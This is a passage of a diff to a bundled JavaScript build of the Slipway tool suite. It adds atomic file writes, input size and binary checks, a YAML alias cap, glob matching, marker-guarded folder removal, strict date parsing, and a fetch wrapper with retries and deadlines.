+        await (0,promises_.rm)(prepared.tmp, { force: true }).catch(() => undefined);
+        throw writeError(what, shown, error);
+    }
+    await sweepAbandoned(prepared.target);
+}
+/**
+ * Writes a text file, creating its folder, through a temporary file of its own and a rename:
+ * a reader (or a step that fails half-way) never sees half a file, concurrent writers never mix
+ * their bytes, a replaced file keeps its mode, and no temporary file is left behind on failure.
+ * A target that is a symbolic link is refused unless `symlinks: 'follow'`.
+ */
+async function writeTextFile(path, text, options = {}) {
+    const prepared = await prepareWrite(path, text, options);
+    await commit(prepared, options.what ?? 'file', path);
+}
+/**
+ * Writes several outputs all or none: every file goes to a temporary file first, and only when
+ * all of them are written are they renamed into place. A failure leaves no temporary file.
+ */
+async function writeOutputFiles(files) {
+    const prepared = [];
+    try {
+        for (const file of files)
+            prepared.push(await prepareWrite(file.path, file.text, file));
+    }
+    catch (error) {
+        await Promise.all(prepared.map((p) => rm(p.tmp, { force: true }).catch(() => undefined)));
+        throw error;
+    }
+    for (const [i, p] of prepared.entries()) {
+        const file = files[i];
+        try {
+            await commit(p, file.what ?? 'file', file.path);
+        }
+        catch (error) {
+            await Promise.all(prepared.slice(i + 1).map((q) => rm(q.tmp, { force: true }).catch(() => undefined)));
+            throw error;
+        }
+    }
+}
+/** The path a file is or would be at once symbolic links are followed (the parent's, for a file not yet there). */
+async function files_canonicalPath(path) {
+    const absolute = (0,external_node_path_.resolve)(path);
+    try {
+        return await (0,promises_.realpath)(absolute);
+    }
+    catch {
+        const parent = (0,external_node_path_.dirname)(absolute);
+        if (parent === absolute)
+            return absolute;
+        return (0,external_node_path_.join)(await files_canonicalPath(parent), (0,external_node_path_.basename)(absolute));
+    }
+}
+/**
+ * Refuses outputs that resolve (symbolic links and `..` included) to one of the inputs or to
+ * another output: writing one would replace what the run reads, or lose one of two results.
+ */
+async function assertDistinctOutputs(inputs, outputs) {
+    const seen = new Map();
+    for (const item of inputs)
+        seen.set(await files_canonicalPath(item.path), { ...item, role: 'input' });
+    for (const out of outputs) {
+        const key = await files_canonicalPath(out.path);
+        const clash = seen.get(key);
+        if (clash) {
+            throw new errors/* UserError */.yo(clash.role === 'input'
+                ? `${out.name} ${out.path} is the same file as the input ${clash.name} ${clash.path}; writing it would replace the input`
+                : `${out.name} ${out.path} and ${clash.name} ${clash.path} are the same file; one output would replace the other`, { code: errors/* errorCodes */.fv.outputIsInput, hint: `give ${out.name} a path of its own` });
+        }
+        seen.set(key, { ...out, role: 'output' });
+    }
+}
+function sizeText(bytes) {
+    return bytes >= 1024 * 1024 ? `${(bytes / 1024 / 1024).toFixed(1)} MiB` : `${Math.ceil(bytes / 1024)} KiB`;
+}
+/** Reads a file's bytes; a missing, unreadable or too large file is a UserError naming it. */
+async function readFileBytes(path, what = 'file', options = {}) {
+    const limit = options.maxBytes ?? LARGE_FILE_LIMIT;
+    try {
+        const info = await (0,promises_.stat)(path);
+        if (info.isDirectory())
+            throw Object.assign(new Error('is a directory'), { code: 'EISDIR' });
+        if (info.size > limit) {
+            throw new errors/* UserError */.yo(`Cannot read ${what} ${path}: it is ${sizeText(info.size)}, more than the ${sizeText(limit)} this input may be`, {
+                code: errors/* errorCodes */.fv.inputTooLarge,
+                hint: 'check that the path names the intended file',
+            });
+        }
+        return await (0,promises_.readFile)(path);
+    }
+    catch (error) {
+        if (error instanceof errors/* UserError */.yo)
+            throw error;
+        throw new errors/* UserError */.yo(`Cannot read ${what} ${path}: ${files_describeFsError(error)}`, { cause: error, code: errors/* errorCodes */.fv.inputUnreadable });
+    }
+}
+/**
+ * Reads a text file; a missing, unreadable, too large or binary (NUL bytes) file is a UserError
+ * naming it.
+ */
+async function readTextFile(path, what = 'file', options = {}) {
+    const bytes = await readFileBytes(path, what, options);
+    const nul = bytes.indexOf(0);
+    if (nul !== -1) {
+        throw new errors/* UserError */.yo(`Cannot read ${what} ${path}: it is a binary file (a NUL byte at offset ${nul}), not text`, {
+            code: errors/* errorCodes */.fv.inputBinary,
+            hint: 'check that the path names the intended file',
+        });
+    }
+    return bytes.toString('utf8');
 }
 /** Parses JSON text; the error names the source and the line and column at fault. */
 function parseJson(text, source) {
@@ -41326,31 +44735,33 @@ function parseJson(text, source) {
         else if (text.trim() === '') {
             where = ': the file is empty';
         }
-        throw new src_errors/* UserError */.yo(`${source} is not valid JSON${where} (${message})`, { cause: error });
+        throw new errors/* UserError */.yo(`${source} is not valid JSON${where} (${message})`, { cause: error });
     }
 }
-/** Parses YAML text; the error names the source and the line at fault. */
+/** Parses YAML text; the error names the source and the line at fault. Aliases are capped (no billion laughs). */
 function parseYamlText(text, source) {
     try {
-        return (0,dist/* parse */.qg)(text, { prettyErrors: true, uniqueKeys: true });
+        return (0,dist/* parse */.qg)(text, { prettyErrors: true, uniqueKeys: true, maxAliasCount: 1000 });
     }
     catch (error) {
         if (error instanceof dist/* YAMLParseError */.XT) {
             const at = error.linePos?.[0];
-            throw new src_errors/* UserError */.yo(`${source} is not valid YAML${at ? ` at line ${at.line}, column ${at.col}` : ''}: ${error.message.split('\n')[0] ?? ''}`, {
-                cause: error,
-            });
+            throw new errors/* UserError */.yo(`${source} is not valid YAML${at ? ` at line ${at.line}, column ${at.col}` : ''}: ${error.message.split('\n')[0] ?? ''}`, { cause: error });
+        }
+        if (error instanceof ReferenceError || (error instanceof Error && /alias/i.test(error.message))) {
+            throw new errors/* UserError */.yo(`${source} is not valid YAML: ${error.message}`, { cause: error });
         }
         throw error;
     }
 }
 /** Reads and decodes a JSON file. */
-async function readJsonFile(path, decoder, what = 'JSON file') {
-    return decodeDocument(decoder, parseJson(await readTextFile(path, what), path), path);
+async function readJsonFile(path, decoder, what = 'JSON file', options = {}) {
+    return decodeDocument(decoder, parseJson(await readTextFile(path, what, options), path), path);
 }
-/** Reads and decodes a YAML (or JSON, a subset) file. */
-async function readYamlFile(path, decoder, what = 'YAML file') {
-    return decodeDocument(decoder, parseYamlText(await readTextFile(path, what), path), path);
+/** Reads and decodes a YAML (or JSON, a subset) file; at most SMALL_FILE_LIMIT unless told. */
+async function readYamlFile(path, decoder, what = 'YAML file', options = {}) {
+    const text = await readTextFile(path, what, { maxBytes: options.maxBytes ?? SMALL_FILE_LIMIT });
+    return decodeDocument(decoder, parseYamlText(text, path), path);
 }
 
 ;// CONCATENATED MODULE: ./packages/core/src/input-readers.ts
@@ -41364,9 +44775,9 @@ async function readYamlFile(path, decoder, what = 'YAML file') {
  * (as the runner passes it: trimmed, '' when unset) and its errors name the input
  * and the values it accepts.
  */
-class InputError extends src_errors/* UserError */.yo {
+class InputError extends errors/* UserError */.yo {
     constructor(name, problem, hint) {
-        super(`Input '${name}' ${problem}`, hint === undefined ? {} : { hint });
+        super(`Input '${name}' ${problem}`, { code: errors/* errorCodes */.fv.usage, ...(hint === undefined ? {} : { hint }) });
         this.name = 'InputError';
     }
 }
@@ -41509,7 +44920,7 @@ function yamlFile(decoder, opts = {}) {
             return decode_decodeDocument(decoder, parseYamlText(text, raw), raw);
         }
         catch (error) {
-            throw new InputError(name, `names a file that is not valid: ${(0,src_errors/* errorMessage */.gJ)(error)}`);
+            throw new InputError(name, `names a file that is not valid: ${(0,errors/* errorMessage */.gJ)(error)}`);
         }
     }, undefined, opts);
 }
@@ -41613,14 +45024,70 @@ function escapeHtml(text) {
 ;// CONCATENATED MODULE: ./packages/core/src/glob.ts
 
 
+
+/** The folders `expandGlobs` never enters through a wildcard unless told otherwise. */
+const DEFAULT_SKIP_FOLDERS = (/* unused pure expression or super */ null && (['.git', 'node_modules']));
+const MAGIC = /[*?[\]{}()!+@]/;
+const stripDot = (p) => p.replace(/^(\.\/)+/, '');
+/** The segments of a pattern that are plain names (no wildcard, class, brace or extglob). */
+function literalSegments(pattern) {
+    return new Set(stripDot(pattern)
+        .split('/')
+        .filter((s) => s !== '' && !MAGIC.test(s)));
+}
 /**
- * Expands glob patterns (with `!` exclusions) to sorted file paths relative to `cwd`.
- * Patterns that match nothing are an error naming them, unless `allowEmpty`.
+ * A matcher over `/`-separated relative paths for patterns with `!` exclusions: a path
+ * matches when some include matches and no exclude does. `*` and `?` never cross a `/`,
+ * `**` spans whole segments only, and `{a,b}`, `[abc]` and `?` mean what they mean in a shell.
+ * A path through a folder in `skipFolders` matches only a pattern that names that folder.
+ */
+function globMatcher(patterns, options = {}) {
+    // posix: `[!abc]` is a negated class, as in a shell (picomatch otherwise reads it as the set !, a, b, c).
+    const opts = { dot: options.dot ?? true, basename: options.basename ?? false, strictSlashes: false, posix: true };
+    const skip = new Set(options.skipFolders ?? []);
+    const include = patterns.filter((p) => !p.startsWith('!')).map(stripDot);
+    const exclude = patterns.filter((p) => p.startsWith('!')).map((p) => stripDot(p.slice(1)));
+    const includes = include.map((p) => {
+        const test = picomatch(p, opts);
+        const named = literalSegments(p);
+        const barred = [...skip].filter((s) => !named.has(s));
+        return { test, barred };
+    });
+    const isExcluded = exclude.length ? picomatch(exclude, opts) : () => false;
+    return (path) => {
+        const p = stripDot(path);
+        if (isExcluded(p))
+            return false;
+        const folders = skip.size > 0 ? p.split('/').slice(0, -1) : [];
+        return includes.some(({ test, barred }) => test(p) && !barred.some((b) => folders.includes(b)));
+    };
+}
+/**
+ * Expands glob patterns (with `!` exclusions) to the sorted files under `cwd`, relative to it,
+ * by exactly `globMatcher`'s rules: hidden files and folders are matched (`dot`, default true)
+ * and wildcards do not enter `.git` or `node_modules` (`skipFolders`, default
+ * `DEFAULT_SKIP_FOLDERS`). Patterns that match nothing are an error naming them, unless `allowEmpty`.
  */
 async function expandGlobs(patterns, cwd, options = {}) {
-    const include = patterns.filter((p) => !p.startsWith('!'));
-    const ignore = patterns.filter((p) => p.startsWith('!')).map((p) => p.slice(1));
-    const files = await glob(include, { cwd, ignore, onlyFiles: true, dot: true, expandDirectories: false });
+    const skipFolders = options.skipFolders ?? DEFAULT_SKIP_FOLDERS;
+    const include = patterns.filter((p) => !p.startsWith('!')).map(stripDot);
+    // The walk finds a superset (every dot name, exclusions unapplied: an ignore pattern would also
+    // prune folders it names) and only skips folders no pattern names; the matcher decides.
+    const named = new Set(include.flatMap((p) => [...literalSegments(p)]));
+    const prune = skipFolders.filter((s) => !named.has(s)).map((s) => `**/${s}/**`);
+    // With `basename`, a pattern without a slash matches at any depth: walk for it everywhere.
+    const walk = options.basename ? include.map((p) => (p.includes('/') ? p : `**/${p}`)) : include;
+    const found = include.length === 0
+        ? []
+        : await glob(walk, {
+            cwd,
+            ignore: prune,
+            onlyFiles: true,
+            dot: true,
+            expandDirectories: false,
+        });
+    const matches = globMatcher(patterns, { dot: options.dot ?? true, basename: options.basename ?? false, skipFolders });
+    const files = [...new Set(found.map((f) => f.replace(/\\/g, '/')))].filter(matches);
     if (files.length === 0 && !options.allowEmpty) {
         throw new UserError(`No ${options.what ?? 'files'} matched ${include.map((p) => `'${p}'`).join(', ')} in ${cwd}`, {
             hint: 'patterns are relative to the workspace; check the path and the file names',
@@ -41629,8 +45096,6 @@ async function expandGlobs(patterns, cwd, options = {}) {
     return files.sort();
 }
 
-// EXTERNAL MODULE: external "node:crypto"
-var external_node_crypto_ = __nccwpck_require__(7598);
 ;// CONCATENATED MODULE: ./packages/core/src/digest.ts
 
 
@@ -41711,14 +45176,14 @@ function readEvent(path) {
         text = (0,external_node_fs_namespaceObject.readFileSync)(path, 'utf8');
     }
     catch (error) {
-        throw new src_errors/* UserError */.yo(`Cannot read the event payload at GITHUB_EVENT_PATH=${path}`, { cause: error });
+        throw new errors/* UserError */.yo(`Cannot read the event payload at GITHUB_EVENT_PATH=${path}`, { cause: error });
     }
     try {
         const value = JSON.parse(text);
         return typeof value === 'object' && value !== null && !Array.isArray(value) ? value : {};
     }
     catch (error) {
-        throw new src_errors/* UserError */.yo(`The event payload at ${path} is not valid JSON`, { cause: error });
+        throw new errors/* UserError */.yo(`The event payload at ${path} is not valid JSON`, { cause: error });
     }
 }
 function osName() {
@@ -41736,6 +45201,486 @@ function isForkPullRequest(ctx) {
     const headRepo = typeof head === 'object' && head !== null ? head['repo'] : undefined;
     const fullName = typeof headRepo === 'object' && headRepo !== null ? headRepo['full_name'] : undefined;
     return typeof fullName === 'string' && fullName !== ctx.repository;
+}
+
+;// CONCATENATED MODULE: ./packages/core/src/owned-dir.ts
+
+
+
+
+/** The file that marks a folder as made by Slipway, and so one it may empty or delete. */
+const OWNED_MARKER = '.slipway-owned';
+function inside(child, parent) {
+    const rel = relative(parent, child);
+    return rel === '' || (!rel.startsWith(`..${sep}`) && rel !== '..' && !isAbsolute(rel));
+}
+async function refuseProtected(path, options) {
+    const target = await canonicalPath(path);
+    for (const kept of options.protect ?? []) {
+        if (inside(await canonicalPath(kept), target)) {
+            throw new UserError(`Refusing to use ${path} as ${options.what}: it is or holds ${kept}, which must not be replaced`, {
+                code: errorCodes.outputNotOwned,
+                hint: 'choose a new folder of its own',
+            });
+        }
+    }
+}
+/**
+ * Makes `path` an empty folder owned by Slipway: a new folder, an empty one, or one this tool
+ * made before (it holds the marker file), whose contents are then removed. Anything else (a
+ * file, a folder with someone's files, a protected folder) is refused and left as it is.
+ */
+async function prepareOwnedDir(path, options) {
+    await refuseProtected(path, options);
+    let info;
+    try {
+        info = await lstat(path);
+    }
+    catch (error) {
+        if (error.code !== 'ENOENT') {
+            throw new UserError(`Cannot use ${path} as ${options.what}: ${describeFsError(error)}`, { code: errorCodes.outputUnwritable });
+        }
+    }
+    if (info && !info.isDirectory()) {
+        throw new UserError(`Refusing to use ${path} as ${options.what}: it is ${info.isSymbolicLink() ? 'a symbolic link' : 'a file'}, not a folder`, {
+            code: errorCodes.outputNotOwned,
+            hint: 'choose a path that does not exist yet',
+        });
+    }
+    if (info) {
+        const entries = await readdir(path);
+        if (entries.length > 0 && !entries.includes(OWNED_MARKER)) {
+            throw new UserError(`Refusing to empty ${path} for ${options.what}: it holds files that Slipway did not create (no ${OWNED_MARKER} marker)`, {
+                code: errorCodes.outputNotOwned,
+                hint: 'choose a new or empty folder; Slipway only replaces folders it made itself',
+            });
+        }
+        for (const entry of entries) {
+            if (entry !== OWNED_MARKER)
+                await rm(join(path, entry), { recursive: true, force: true });
+        }
+    }
+    try {
+        await mkdir(path, { recursive: true });
+        await writeFile(join(path, OWNED_MARKER), `This folder was made by Slipway (${options.what}); Slipway may empty or remove it.\n`);
+    }
+    catch (error) {
+        throw new UserError(`Cannot create ${options.what} ${path}: ${describeFsError(error)}`, {
+            cause: error,
+            code: errorCodes.outputUnwritable,
+        });
+    }
+}
+/** Removes a folder only if Slipway made it (it holds the marker); anything else is left alone and refused. */
+async function removeOwnedDir(path, options) {
+    await refuseProtected(path, options);
+    let entries;
+    try {
+        entries = await readdir(path);
+    }
+    catch (error) {
+        if (error.code === 'ENOENT')
+            return;
+        throw new UserError(`Cannot remove ${options.what} ${path}: ${describeFsError(error)}`, { code: errorCodes.outputUnwritable });
+    }
+    if (!entries.includes(OWNED_MARKER)) {
+        throw new UserError(`Refusing to remove ${path}: Slipway did not create it (no ${OWNED_MARKER} marker)`, {
+            code: errorCodes.outputNotOwned,
+        });
+    }
+    await rm(path, { recursive: true, force: true });
+}
+
+;// CONCATENATED MODULE: ./packages/core/src/dates.ts
+
+// One strict reader for the dates users write (policy expiries, --since, --now, state files):
+// a calendar date `YYYY-MM-DD` or an RFC 3339 timestamp. `Date.parse` is not used because it
+// rolls impossible dates over (2023-02-29 becomes 1 March) and accepts many other shapes.
+const DATE = /^(\d{4})-(\d{2})-(\d{2})$/;
+const TIMESTAMP = /^(\d{4})-(\d{2})-(\d{2})[Tt ](\d{2}):(\d{2})(?::(\d{2})(\.\d{1,9})?)?([Zz]|[+-]\d{2}:\d{2})$/;
+function daysIn(year, month) {
+    if (month === 2)
+        return (year % 4 === 0 && year % 100 !== 0) || year % 400 === 0 ? 29 : 28;
+    return [4, 6, 9, 11].includes(month) ? 30 : 31;
+}
+function invalid(value, field, why) {
+    return new UserError(`${field}: '${value}' is not a valid date (${why})`, {
+        code: errorCodes.invalidInput,
+        hint: 'write a calendar date as YYYY-MM-DD or a time as RFC 3339, e.g. 2026-03-31 or 2026-03-31T12:00:00Z',
+    });
+}
+function checkCalendar(value, field, y, m, d) {
+    if (m < 1 || m > 12)
+        throw invalid(value, field, `there is no month ${m}`);
+    const max = daysIn(y, m);
+    if (d < 1 || d > max)
+        throw invalid(value, field, `month ${m} of ${y} has ${max} days`);
+}
+/**
+ * Parses a calendar date (`YYYY-MM-DD`, midnight UTC) or an RFC 3339 timestamp to epoch
+ * milliseconds. Impossible dates, times and other shapes are a UserError naming the field.
+ */
+function parseDateTime(value, field) {
+    const text = value.trim();
+    const date = DATE.exec(text);
+    if (date) {
+        const [y, m, d] = [Number(date[1]), Number(date[2]), Number(date[3])];
+        checkCalendar(text, field, y, m, d);
+        return Date.UTC(y, m - 1, d);
+    }
+    const ts = TIMESTAMP.exec(text);
+    if (!ts)
+        throw invalid(text, field, 'expected YYYY-MM-DD or an RFC 3339 time');
+    const [y, mo, d, h, mi] = [Number(ts[1]), Number(ts[2]), Number(ts[3]), Number(ts[4]), Number(ts[5])];
+    const s = ts[6] === undefined ? 0 : Number(ts[6]);
+    checkCalendar(text, field, y, mo, d);
+    if (h > 23)
+        throw invalid(text, field, `there is no hour ${h}`);
+    if (mi > 59)
+        throw invalid(text, field, `there is no minute ${mi}`);
+    if (s > 59)
+        throw invalid(text, field, `there is no second ${s}`);
+    const fraction = ts[7] === undefined ? 0 : Math.floor(Number(`0${ts[7]}`) * 1000);
+    const zone = ts[8];
+    let offsetMinutes = 0;
+    if (zone !== 'Z' && zone !== 'z') {
+        const [oh, om] = [Number(zone.slice(1, 3)), Number(zone.slice(4, 6))];
+        if (oh > 23 || om > 59)
+            throw invalid(text, field, `the offset ${zone} is out of range`);
+        offsetMinutes = (zone.startsWith('-') ? -1 : 1) * (oh * 60 + om);
+    }
+    return Date.UTC(y, mo - 1, d, h, mi, s, fraction) - offsetMinutes * 60_000;
+}
+/** Parses a calendar date only (`YYYY-MM-DD`), as epoch milliseconds at midnight UTC. */
+function parseCalendarDate(value, field) {
+    const text = value.trim();
+    const date = DATE.exec(text);
+    if (!date)
+        throw invalid(text, field, 'expected YYYY-MM-DD');
+    return parseDateTime(text, field);
+}
+/** Refuses a time after `now` (plus a minute of clock skew): a `--since` in the future collects nothing and moves no cursor. */
+function assertNotFuture(epochMs, nowMs, field) {
+    if (epochMs > nowMs + 60_000) {
+        throw new UserError(`${field}: ${new Date(epochMs).toISOString()} is in the future (now is ${new Date(nowMs).toISOString()})`, {
+            code: errorCodes.invalidInput,
+            hint: 'give a time in the past',
+        });
+    }
+}
+
+;// CONCATENATED MODULE: ./packages/core/src/retry.ts
+// The one retry policy of the suite: bounded attempts, exponential backoff with full jitter,
+// and a server's `retry-after` honoured up to a cap. Every network client uses it (the OCI
+// client, the GitHub API client, the cache stores), so "how hard do we try" has one answer.
+const DEFAULT_RETRY = { attempts: 4, baseDelayMs: 500, maxDelayMs: 15_000, maxRetryAfterMs: 120_000 };
+/** No retries: one try, for calls that must not be repeated. */
+const NO_RETRY = { attempts: 1, baseDelayMs: 0, maxDelayMs: 0, maxRetryAfterMs: 0 };
+/**
+ * The wait a `retry-after` header asks for, in milliseconds: delay-seconds or an HTTP date
+ * (RFC 9110 §10.2.3). Absent or unreadable gives undefined.
+ */
+function parseRetryAfter(value, nowMs) {
+    if (value === null || value === undefined)
+        return undefined;
+    const text = value.trim();
+    if (/^\d+$/.test(text))
+        return Number(text) * 1000;
+    const at = Date.parse(text);
+    if (Number.isNaN(at) || !/[a-z]/i.test(text))
+        return undefined;
+    return Math.max(0, at - nowMs);
+}
+/** The backoff before try `attempt + 1` (attempt counts from 1): full jitter below base × 2^(attempt-1). */
+function backoffDelay(attempt, policy, random = Math.random) {
+    const ceiling = Math.min(policy.maxDelayMs, policy.baseDelayMs * 2 ** Math.max(0, attempt - 1));
+    return Math.round(ceiling / 2 + (random() * ceiling) / 2);
+}
+const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
+/**
+ * Runs `op` until `judge` says its outcome needs no retry, or the attempts run out. `judge`
+ * sees either the value or the error of each try; after the last try the value is returned
+ * and the error rethrown as they are, so callers keep their own error handling.
+ */
+async function withRetry(op, judge, policy = DEFAULT_RETRY, hooks = {}) {
+    const wait = hooks.sleep ?? sleep;
+    for (let attempt = 1;; attempt++) {
+        let outcome;
+        try {
+            outcome = { value: await op(attempt) };
+        }
+        catch (error) {
+            outcome = { error };
+        }
+        const verdict = judge(outcome);
+        const last = attempt >= Math.max(1, policy.attempts);
+        if (!verdict.retry || last) {
+            if ('error' in outcome)
+                throw outcome.error;
+            return outcome.value;
+        }
+        if (verdict.waitMs !== undefined && verdict.waitMs > policy.maxRetryAfterMs) {
+            if ('error' in outcome)
+                throw outcome.error;
+            return outcome.value;
+        }
+        const waitMs = Math.max(verdict.waitMs ?? 0, backoffDelay(attempt, policy, hooks.random));
+        hooks.onRetry?.({ attempt, waitMs, reason: verdict.reason });
+        await wait(waitMs);
+    }
+}
+
+;// CONCATENATED MODULE: ./packages/core/src/http.ts
+
+
+const DEFAULT_DEADLINES = { firstByteMs: 30_000, idleMs: 30_000 };
+/**
+ * The environment variable that lowers every network deadline of the suite to this many
+ * seconds: a CI that prefers failing fast on a stalled service, and the fault tests.
+ */
+const NETWORK_TIMEOUT_VARIABLE = 'SLIPWAY_NETWORK_TIMEOUT';
+/** The cap SLIPWAY_NETWORK_TIMEOUT sets, in milliseconds; undefined when unset. A malformed value is an error naming it. */
+function networkTimeoutCap(env = process.env) {
+    const raw = env[NETWORK_TIMEOUT_VARIABLE];
+    if (raw === undefined || raw.trim() === '')
+        return undefined;
+    const seconds = /^\d+(\.\d+)?$/.test(raw.trim()) ? Number(raw) : Number.NaN;
+    if (!(seconds > 0) || seconds > 86_400) {
+        throw new errors/* UserError */.yo(`${NETWORK_TIMEOUT_VARIABLE} must be a number of seconds above 0 (at most 86400); got '${raw}'`, {
+            code: errors/* errorCodes */.fv.usage,
+        });
+    }
+    return Math.round(seconds * 1000);
+}
+/** A client's own deadline in milliseconds, lowered to SLIPWAY_NETWORK_TIMEOUT when that is shorter (for clients that cannot use fetchWithPolicy). */
+function networkDeadlineMs(defaultMs, env = process.env) {
+    const cap = networkTimeoutCap(env);
+    return cap === undefined ? defaultMs : Math.min(defaultMs, cap);
+}
+function capped(deadlines) {
+    const cap = networkTimeoutCap();
+    if (cap === undefined)
+        return deadlines;
+    return { ...deadlines, firstByteMs: Math.min(deadlines.firstByteMs, cap), idleMs: Math.min(deadlines.idleMs, cap) };
+}
+/** Statuses worth another try: timeouts, rate limits and server errors. */
+function isRetryableStatus(status) {
+    return status === 408 || status === 429 || status === 500 || status === 502 || status === 503 || status === 504;
+}
+const NETWORK_CODES = {
+    ECONNREFUSED: 'the connection was refused',
+    ECONNRESET: 'the connection was reset',
+    ENOTFOUND: 'the host name does not resolve',
+    EAI_AGAIN: 'the host name could not be resolved now',
+    EHOSTUNREACH: 'the host is unreachable',
+    ENETUNREACH: 'the network is unreachable',
+    ETIMEDOUT: 'the connection timed out',
+    EPIPE: 'the connection was closed',
+    UND_ERR_SOCKET: 'the connection was closed',
+    UND_ERR_CONNECT_TIMEOUT: 'the connection timed out',
+    UND_ERR_HEADERS_TIMEOUT: 'no answer came in time',
+    UND_ERR_BODY_TIMEOUT: 'the answer stalled',
+};
+/** A deadline passed; carried as the abort reason so it can be told from other aborts. */
+class DeadlineExceeded extends Error {
+    phase;
+    ms;
+    constructor(phase, ms) {
+        super(`no ${phase === 'first byte' ? 'answer' : phase === 'idle' ? 'data' : 'result'} within ${ms / 1000} s`);
+        this.phase = phase;
+        this.ms = ms;
+        this.name = 'DeadlineExceeded';
+    }
+}
+function causeCode(error) {
+    let current = error;
+    // Duck-typed: fetch's errors may come from another realm, where `instanceof Error` fails.
+    for (let depth = 0; depth < 5 && typeof current === 'object' && current !== null; depth++) {
+        const code = current.code;
+        if (typeof code === 'string' && code in NETWORK_CODES)
+            return code;
+        current = current.cause;
+    }
+    return undefined;
+}
+/** Where a request went, without its query string (signed URLs carry secrets there). */
+function describeUrl(url) {
+    try {
+        const u = new URL(url);
+        return `${u.origin}${u.pathname}`;
+    }
+    catch {
+        return String(url);
+    }
+}
+/** Turns a fetch failure into a UserError with a stable code, naming the peer and the cause. */
+function networkError(error, what, url) {
+    if (error instanceof errors/* UserError */.yo)
+        return error;
+    if (error instanceof DeadlineExceeded) {
+        return new errors/* UserError */.yo(`${what} did not answer: ${error.message} (${describeUrl(url)})`, {
+            code: errors/* errorCodes */.fv.networkTimeout,
+            cause: error,
+            hint: 'check that the service is up and reachable; the call is retried a few times before this error',
+        });
+    }
+    const code = causeCode(error);
+    const message = typeof error === 'object' && error !== null && typeof error.message === 'string'
+        ? error.message
+        : String(error);
+    const reason = code ? `${NETWORK_CODES[code]} (${code})` : message;
+    return new errors/* UserError */.yo(`Cannot reach ${what} at ${describeUrl(url)}: ${reason}`, {
+        code: code === 'ETIMEDOUT' || code === 'UND_ERR_CONNECT_TIMEOUT' ? errors/* errorCodes */.fv.networkTimeout : errors/* errorCodes */.fv.networkUnreachable,
+        cause: error,
+        hint: 'check the URL, the network and that the service is running',
+    });
+}
+/** Parses a URL given by a user (a flag or an input); anything else is a usage error naming it. */
+function parseUserUrl(value, field, protocols = ['http:', 'https:']) {
+    let url;
+    try {
+        url = new URL(value);
+    }
+    catch {
+        throw new UserError(`${field}: '${value}' is not a URL`, {
+            code: errorCodes.usage,
+            hint: `give a full URL such as https://example.com`,
+        });
+    }
+    if (!protocols.includes(url.protocol)) {
+        throw new UserError(`${field}: '${value}' must use ${protocols.map((p) => p.replace(/:$/, '')).join(' or ')}`, {
+            code: errorCodes.usage,
+        });
+    }
+    return url;
+}
+/** Wraps a body stream so that a silence longer than `idleMs` aborts the request. */
+function idleGuard(body, idleMs, abort) {
+    const reader = body.getReader();
+    let timer;
+    const arm = () => {
+        clearTimeout(timer);
+        timer = setTimeout(() => abort(new DeadlineExceeded('idle', idleMs)), idleMs);
+        timer.unref();
+    };
+    return new ReadableStream({
+        start: arm,
+        async pull(controller) {
+            try {
+                const { done, value } = await reader.read();
+                if (done) {
+                    clearTimeout(timer);
+                    controller.close();
+                    return;
+                }
+                arm();
+                controller.enqueue(value);
+            }
+            catch (error) {
+                clearTimeout(timer);
+                controller.error(error);
+            }
+        },
+        async cancel(reason) {
+            clearTimeout(timer);
+            await reader.cancel(reason);
+        },
+    });
+}
+async function fetchOnce(url, init, body, deadlines, outer, doFetch) {
+    const controller = new AbortController();
+    const abort = (reason) => controller.abort(reason);
+    const onOuter = () => abort(outer?.reason);
+    outer?.addEventListener('abort', onOuter, { once: true });
+    const firstByte = setTimeout(() => abort(new DeadlineExceeded('first byte', deadlines.firstByteMs)), deadlines.firstByteMs);
+    try {
+        const response = await doFetch(url, { ...init, ...(body === undefined ? {} : { body }), signal: controller.signal });
+        clearTimeout(firstByte);
+        if (!response.body)
+            return response;
+        const guarded = idleGuard(response.body, deadlines.idleMs, abort);
+        const wrapped = new Response(guarded, { status: response.status, statusText: response.statusText, headers: response.headers });
+        Object.defineProperty(wrapped, 'url', { value: response.url });
+        return wrapped;
+    }
+    catch (error) {
+        clearTimeout(firstByte);
+        const reason = controller.signal.aborted ? controller.signal.reason : undefined;
+        throw reason instanceof DeadlineExceeded ? reason : error;
+    }
+    finally {
+        outer?.removeEventListener('abort', onOuter);
+    }
+}
+/**
+ * fetch with deadlines and the suite's retry policy. Network failures, timeouts and
+ * retryable statuses (408, 429, 5xx) are retried with backoff, honouring `retry-after`; the
+ * last response is returned whatever its status (the caller reads 4xx its own way), and a
+ * network failure after the last try is a UserError (NETWORK_TIMEOUT or NETWORK_UNREACHABLE)
+ * naming `what` and the URL without its query.
+ */
+async function fetchWithPolicy(url, init, policy) {
+    const deadlines = capped({ ...DEFAULT_DEADLINES, ...policy.deadlines });
+    const retry = policy.retry ?? DEFAULT_RETRY;
+    const now = policy.now ?? Date.now;
+    const doFetch = policy.fetch ?? fetch;
+    const outer = init.signal ?? undefined;
+    const total = deadlines.totalMs === undefined ? undefined : AbortSignal.timeout(deadlines.totalMs);
+    const signal = total ? (outer ? AbortSignal.any([outer, total]) : total) : outer;
+    const judge = (outcome) => {
+        if (total?.aborted)
+            return { retry: false };
+        if ('error' in outcome) {
+            if (outer?.aborted)
+                return { retry: false };
+            const e = outcome.error;
+            if (e instanceof DeadlineExceeded ||
+                causeCode(e) !== undefined ||
+                /fetch failed/.test(String(e?.message))) {
+                return { retry: true, reason: networkError(e, policy.what, url).message };
+            }
+            return { retry: false };
+        }
+        const response = outcome.value;
+        const custom = policy.judgeResponse?.(response);
+        if (custom)
+            return custom;
+        if (!isRetryableStatus(response.status))
+            return { retry: false };
+        const waitMs = parseRetryAfter(response.headers.get('retry-after'), now());
+        return { retry: true, reason: `${policy.what} answered ${response.status}`, ...(waitMs === undefined ? {} : { waitMs }) };
+    };
+    try {
+        return await withRetry(async () => {
+            const body = policy.body ? policy.body() : (init.body ?? undefined);
+            return fetchOnce(url, init, body, deadlines, signal, doFetch);
+        }, (outcome) => {
+            const verdict = judge(outcome);
+            // Drain a response that will be retried, so its connection is freed.
+            if (verdict.retry && 'value' in outcome)
+                void outcome.value.body?.cancel().catch(() => undefined);
+            return verdict;
+        }, retry, policy);
+    }
+    catch (error) {
+        if (total?.aborted && !(error instanceof errors/* UserError */.yo))
+            throw networkError(new DeadlineExceeded('total', deadlines.totalMs), policy.what, url);
+        throw networkError(error, policy.what, url);
+    }
+}
+/** Reads a response body to the end within the call's idle deadline; a stall is a NETWORK_TIMEOUT naming the peer. */
+async function readBody(response, what) {
+    try {
